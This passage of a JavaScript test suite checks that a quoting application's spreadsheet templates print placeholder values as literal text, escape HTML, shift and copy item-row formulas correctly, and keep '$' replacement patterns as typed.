    for (const text of Object.values(printed)) expect(html).toContain(`>${text.replace(/[&<>"']/g, (c) => `&#${c.charCodeAt(0)};`)}<`);
  });

  it("is printed as text in an uploaded template's cells, alone or among other text, and its own formulas follow the item rows, each item's row with its own", async () => {
    const cells = {
      ...VALID,
      A1: '${customer.name} / ${customer.contact}',
      E2: '=D4+0',
      E4: '${table:items.sku}',
      F4: '=SUM(B4:C4)',
      E5: '=SUM(D4:D4)',
      E7: '=E5*2',
      A8: '${incoterms} / ${paymentTerms}',
      A9: '${quote.note}',
      A10: '${table:approvals.comment}',
    };
    const saved = await upload(await template(cells), { kind: 'quotation', language: 'en', name: 'typed text' });
    expect(saved.status, JSON.stringify(saved.body)).toBe(201);
    try {
      const { quoteId, companyName } = await typedQuote();
      const doc = await ok(rep.token, 'POST', `/quotes/${quoteId}/documents`, { kind: 'quotation', templateId: saved.body.id, incoterms: TYPED.incoterms, paymentTerms: TYPED.paymentTerms });
      const bytes = (await download(rep.token, `/documents/${doc.id}/file`)).bytes;
      const s = await open(bytes);
      // The second item's row pushed everything below row 4 down by one: the total over the item
      // row grew to both items, a reference to the total moved with it, the first item's stayed.
      // A formula of the item row itself is copied to every item's row, as Excel copies it down,
      // without the template's cached result; the workbook is recalculated when it is opened.
      expect(formulas(s)).toEqual({ E2: 'D4+0', F4: 'SUM(B4:C4)', F5: 'SUM(B5:C5)', E6: 'SUM(D4:D5)', E8: 'E6*2' });
      expect(s.getCell('F5').result).toBeUndefined();
      expect(await zipText(bytes, 'xl/workbook.xml')).toMatch(/<calcPr\b[^>]*\bfullCalcOnLoad="1"/);
      const printed = {
        A1: `${companyName} / ${TYPED.contactName}`,
        A4: TYPED.description,
        E4: TYPED.sku,
        E5: 'PNL-450',
        A9: `${TYPED.incoterms} / ${TYPED.paymentTerms}`,
        A10: TYPED.note,
        A11: TYPED.comment,
        A12: 'ok',
      };
      for (const [ref, text] of Object.entries(printed)) expect([ref, s.getCell(ref).value]).toEqual([ref, text]);
    } finally {
      await ok(h.adminToken, 'DELETE', `/document-templates/${saved.body.id}`);
    }
  });

  it('keeps "$" patterns and "${…}" as typed when a cell holds several values', async () => {
    // Replacement patterns ($&, $', $`, $$) and another placeholder's text inside a value.
    const incoterms = "FOB $& $' $` $$ ${paymentTerms}";
    const paymentTerms = '100% T/T, $1 ${incoterms} $&';
    const saved = await upload(await template({ ...VALID, A8: 'Terms: ${incoterms} / ${paymentTerms} (${currency})' }), { kind: 'quotation', language: 'en', name: 'dollars' });
    expect(saved.status, JSON.stringify(saved.body)).toBe(201);
    try {
      const { quoteId } = await customerWithQuote(true);
      const doc = await ok(rep.token, 'POST', `/quotes/${quoteId}/documents`, { kind: 'quotation', templateId: saved.body.id, incoterms, paymentTerms });
      const s = await open((await download(rep.token, `/documents/${doc.id}/file`)).bytes);
      expect(s.getCell('A9').value).toBe(`Terms: ${incoterms} / ${paymentTerms} (USD)`);
    } finally {
      await ok(h.adminToken, 'DELETE', `/document-templates/${saved.body.id}`);
    }
  });
});
